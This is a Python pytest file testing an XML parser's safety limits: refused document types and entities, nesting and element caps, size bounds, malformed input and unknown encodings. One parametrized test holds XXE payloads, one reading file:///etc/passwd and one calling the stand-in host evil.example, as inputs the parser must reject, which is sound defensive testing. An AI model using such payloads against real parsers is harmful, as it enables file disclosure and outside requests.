"""XML that is taken, and XML that is turned away."""

from __future__ import annotations

import pytest

from provd.simulate.reading import Unreadable, read
from provd.simulate.reading.markup import DEPTH_LIMIT, ELEMENT_LIMIT, parse_markup


def test_text_attributes_and_the_two_kinds_of_empty() -> None:
    root = parse_markup('<a x="&lt;1&#x41;"> é &amp;<b/>t<c></c><d> </d></a>'.encode())
    assert (root.attributes, root.text) == ({"x": "<1A"}, " é &t")
    assert [(child.tag, child.closed) for child in root.children] == [("b", True), ("c", False), ("d", False)]
    wide = parse_markup("<a><b x='/'></b><c/></a>".encode("utf-16"))
    assert [child.closed for child in wide.children] == [False, True]


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE a [<!ENTITY x "boom">]><a>&x;</a>',
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><a/>',
    ],
)
def test_a_document_type_is_refused(content: bytes) -> None:
    with pytest.raises(Unreadable, match="document type"):
        parse_markup(content)


def test_entities_beyond_the_five_are_refused() -> None:
    assert parse_markup(b"<a>&lt;&gt;&amp;&apos;&quot;</a>").text == "<>&'\""
    with pytest.raises(Unreadable, match="undefined entity"):
        parse_markup(b"<a>&nbsp;</a>")


def test_bounds() -> None:
    deep = b"<a>" * DEPTH_LIMIT + b"</a>" * DEPTH_LIMIT
    assert parse_markup(deep).tag == "a"
    with pytest.raises(Unreadable, match="nests more than"):
        parse_markup(b"<a>" + deep + b"</a>")
    with pytest.raises(Unreadable, match="elements, more than any"):
        parse_markup(b"<a>" + b"<b/>" * ELEMENT_LIMIT + b"</a>")
    with pytest.raises(Unreadable, match="are the most that is read"):
        parse_markup(b"<a>" + b" " * (4 * 1024 * 1024) + b"</a>")
    with pytest.raises(Unreadable, match="are the most that is read"):
        read("yealink", "a.cfg", b"#" * (4 * 1024 * 1024 + 1))


@pytest.mark.parametrize(
    "content", [b"", b"   ", b"plain", b"<a>", b"<a></b>", b"<a/><b/>", b"\xff\xfe\x00", b"<a>\x01</a>"]
)
def test_what_is_no_document_is_told_in_a_sentence(content: bytes) -> None:
    with pytest.raises(Unreadable) as caught:
        parse_markup(content)
    assert str(caught.value).startswith("The file ") and str(caught.value).endswith(".")


def test_an_unknown_encoding_is_told_in_a_sentence() -> None:
    for name in ("rot13", "utf-7", "klingon", "base64", "idna"):
        with pytest.raises(Unreadable):
            parse_markup(f'<?xml version="1.0" encoding="{name}"?><a>+AGE-</a>'.encode())
    assert parse_markup(b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>').text == "\u00e9"
